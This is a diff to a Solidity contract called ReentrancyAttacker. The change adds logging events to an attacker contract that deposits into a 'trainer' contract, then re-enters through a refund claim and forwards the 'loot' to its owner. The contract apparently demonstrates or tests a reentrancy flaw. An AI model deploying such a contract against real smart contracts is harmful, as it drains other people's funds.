@@ -32,8 +32,12 @@ contract ReentrancyAttacker {
     /// @notice Forwarding the loot failed.
     error ForwardFailed(uint256 amount);
 
+    /// @notice This contract added contribution `id` with a deposit of `deposit` wei.
+    event Contributed(uint256 id, uint256 deposit);
     /// @notice The refund of `amount` wei arrived (the `count`-th payment).
     event Received(uint256 amount, uint256 count);
+    /// @notice `amount` wei were sent to the attacker.
+    event Withdrawn(uint256 amount);
 
     /// @param target_ The trainer to attack.
     constructor(IRefundable target_) {
@@ -49,6 +53,7 @@ contract ReentrancyAttacker {
         if (msg.sender != attacker) revert NotAttacker(msg.sender);
         deposit = msg.value;
         contributionId = target.addData{value: msg.value}(x, label);
+        emit Contributed(contributionId, msg.value);
     }
 
     /// @notice Step 2 (after the refund wait): claim the refund; `receive` does the rest.
@@ -61,6 +66,7 @@ contract ReentrancyAttacker {
     function withdraw() external {
         if (msg.sender != attacker) revert NotAttacker(msg.sender);
         uint256 amount = address(this).balance;
+        emit Withdrawn(amount);
         (bool ok,) = attacker.call{value: amount}("");
         if (!ok) revert ForwardFailed(amount);
     }
